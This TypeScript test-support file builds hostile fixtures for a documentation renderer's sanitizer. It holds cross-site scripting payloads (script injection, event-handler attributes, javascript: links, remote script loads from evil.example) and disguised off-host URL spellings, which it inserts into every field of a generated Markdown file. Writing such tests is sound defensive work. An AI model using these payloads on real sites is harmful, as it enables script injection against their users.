import { ADDRESSES, FORMULAS, hostileDocument, TEXTS } from '../../../../../domain/page-html/support/hostile.js';
import { validDocument } from './valid-document.js';

/** What a hostile author writes at every place of a document where it fits. */
export interface Payload {
  words?: string;
  address?: string;
  formula?: string;
}

/** What PostgreSQL and JSON do not carry is refused before anything is drawn of it. */
const isText = (text: string): boolean => !/[\u0000\ud800-\udfff]/.test(text);

/** Texts that leave the places that attributes, style sheets, frames and scripts of sites have. */
const OF_SITES: readonly string[] = [
  '"></title><script>alert(1)</script>',
  '"/><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '\\"};alert(1);//',
  '}</style><script>alert(1)</script><style>{',
  '</script><script src=https://evil.example/x.js></script>',
  '\u2028alert(1)\u2029',
  '"><a id=main name=main href=javascript:alert(1)>',
  '<form id=search name=q><input name=attributes>',
  '<link rel=preload as=script href=https://evil.example/x.js>',
  '<img srcset="https://evil.example/x.png 2x">',
  '<video poster=https://evil.example/x.png><source onerror=alert(1)>',
  '<a ping=https://evil.example/ href=/>x</a>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<div popover id=x onbeforetoggle=alert(1)>',
  '<button popovertarget=x formaction=javascript:alert(1)>',
];

/** Addresses on another host that browsers would load, in spellings that do not look like one. */
const ELSEWHERE: readonly string[] = [
  'https://evil.example/picture.png',
  'HTTP://evil.example/picture.png',
  '//evil.example/picture.png',
  '/\\evil.example/picture.png',
  '\\\\evil.example\\picture.png',
  '/\t/evil.example/picture.png',
  ' //evil.example/picture.png',
  'https:evil.example/picture.png',
  'https:/\\evil.example/picture.png',
];

const texts = [...TEXTS, ...OF_SITES].filter(isText);
const addresses = [...ADDRESSES, ...ELSEWHERE].filter(isText);

export const WORDS: readonly Payload[] = texts.map((words) => ({ words }));
export const PLACES: readonly Payload[] = addresses.map((address) => ({ address }));
export const PAYLOADS: readonly Payload[] = [...WORDS, ...PLACES, ...FORMULAS.map((formula) => ({ formula }))];

/** A document of blocks with a payload, as the API takes it. */
export const documentWith = (payload: Payload): object => validDocument(hostileDocument(payload));

const quoted = (text: string): string => text.replace(/[\r\n]+/g, ' ').replaceAll('"', '&quot;');
const oneLine = (text: string): string => text.replace(/[\r\n]+/g, ' ');

/** A file of a repository with a payload: in its front matter, in blocks written as Markdown, and as HTML. */
export function fileWith({ words = 'A text', address = 'https://example.org/', formula = 'x' }: Payload): string {
  const line = oneLine(words);
  const to = oneLine(address);
  const yaml = (text: string): string => JSON.stringify(text);
  return `---
description: ${yaml(words)}
icon: ${yaml(words)}
emoji: ${yaml(words)}
cover: ${yaml(address)}
coverDark: ${yaml(address)}
tags: [${yaml(words)}]
---

# ${line}

## A heading ${line} <a href="#${quoted(line)}" id="${quoted(line)}"></a>

[a link](<${to}>) [another](${to} "${quoted(line)}") <${to}> ![${line}](<${to}> "${quoted(line)}") [by name][n]

[n]: <${to}> "${quoted(line)}"

${line}

<a href="${quoted(to)}" class="button primary" data-icon="${quoted(line)}">${line}</a>
<mark style="color:${quoted(line)};">${line}</mark> <span data-gb-custom-inline data-tag="emoji" data-code="${quoted(line)}"></span>
<i class="fa-${quoted(line)}">:${quoted(line)}:</i> $$${formula}$$ <img src="${quoted(to)}" alt="${quoted(line)}" data-size="line">

<figure><picture><source srcset="${quoted(to)}" media="(prefers-color-scheme: dark)"><img src="${quoted(to)}" alt="${quoted(line)}" width="${quoted(line)}"></picture><figcaption><p>${line}</p></figcaption></figure>

$$
${formula}
$$

{% hint style="${quoted(line)}" icon="${quoted(line)}" %}
${line}
{% endhint %}

{% tabs %}
{% tab title="${quoted(line)}" icon="${quoted(line)}" slug="${quoted(line)}" %}
${line}
{% endtab %}
{% endtabs %}

{% code title="${quoted(line)}" lineNumbers="true" overflow="wrap" %}
\`\`\`${line.replaceAll('`', '')}
${line}
\`\`\`
{% endcode %}

\`\`\`mermaid
flowchart LR
  A["${line}"] --> B
  click A "${to}"
\`\`\`

{% embed url="${quoted(to)}" %}
${line}
{% endembed %}

{% file src="${quoted(to)}" %}
${line}
{% endfile %}

{% content-ref url="${quoted(to)}" %}
[x](${to})
{% endcontent-ref %}

{% openapi src="${quoted(to)}" path="${quoted(line)}" method="get" %}
[x](${to})
{% endopenapi %}

{% stepper %}
{% step %}
### ${line}
{% endstep %}
{% endstepper %}

{% updates format="full" %}
{% update date="${quoted(line)}" tags="${quoted(line)}" %}
${line}
{% endupdate %}
{% endupdates %}

{% columns %}
{% column width="${quoted(line)}" %}
${line}
{% endcolumn %}
{% endcolumns %}

<details><summary>${line}</summary>

${line}

</details>

<table data-view="cards"><thead><tr><th>${line}</th><th data-hidden data-card-target data-type="content-ref"></th><th data-hidden data-card-cover data-type="files"></th></tr></thead><tbody><tr><td>${line}</td><td><a href="${quoted(to)}">${line}</a></td><td><a href="${quoted(to)}">x</a></td></tr></tbody></table>

| ${line.replaceAll('|', '')} |
| --- |
| [x](${to.replaceAll('|', '')}) |

Note[^1] ${line}

[^1]: ${line} [x](${to})
`;
}
